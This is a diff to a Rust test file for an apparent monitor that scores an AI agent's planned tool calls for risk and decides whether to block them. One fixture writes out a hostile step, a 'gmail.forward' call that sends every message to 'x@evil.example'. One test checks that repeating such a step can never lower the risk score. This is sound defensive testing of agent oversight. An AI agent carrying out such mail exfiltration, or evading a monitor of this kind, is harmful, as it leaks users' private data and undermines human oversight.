@@ -16,9 +16,35 @@ fn plan(json: &str) -> Plan {
 fn empty_plan_is_allowed_with_zero_features() {
     let a = monitor().assess(&plan(r#"{"steps": []}"#));
     assert_eq!(a.features, [0.0; 9]);
-    assert!(a.decision.violations.iter().all(|v| v.rule == "risk_score"));
-    assert_ne!(a.decision.intervention, Intervention::Block);
-    assert!((0.0..=1.0).contains(&a.decision.risk));
+    assert!(a.decision.violations.is_empty());
+    assert_eq!(a.decision.intervention, Intervention::Allow);
+    assert_eq!(a.decision.risk, 0.0);
+}
+
+#[test]
+fn repeating_a_harmful_step_never_lowers_rho() {
+    let m = monitor();
+    let step = r#"{"tool": "gmail.forward", "args": {"to": "x@evil.example", "ids": "*"}}"#;
+    let mut last = 0.0;
+    for n in [1usize, 2, 10, 100, 1000, 100_000] {
+        let steps = vec![step; n].join(",");
+        let rho = m.decide(&plan(&format!(r#"{{"steps": [{steps}]}}"#))).risk;
+        assert!(rho >= last, "{n} repetitions: ρ {rho} < {last}");
+        last = rho;
+    }
+    // And the learned weights themselves are non-negative (the guarantee behind it).
+    assert!(m.model().weights.iter().all(|w| *w >= 0.0));
+    assert!(m.model().platt_a <= 0.0);
+}
+
+#[test]
+fn negative_weights_are_refused_at_load_time() {
+    let mut model = monitor().model().clone();
+    model.weights[0] = -0.5;
+    assert_eq!(
+        model.validate().unwrap_err().to_string(),
+        "plan-risk model: weights[0] = -0.5 must be ≥ 0 (ρ must never fall when a step is added)"
+    );
 }
 
 #[test]
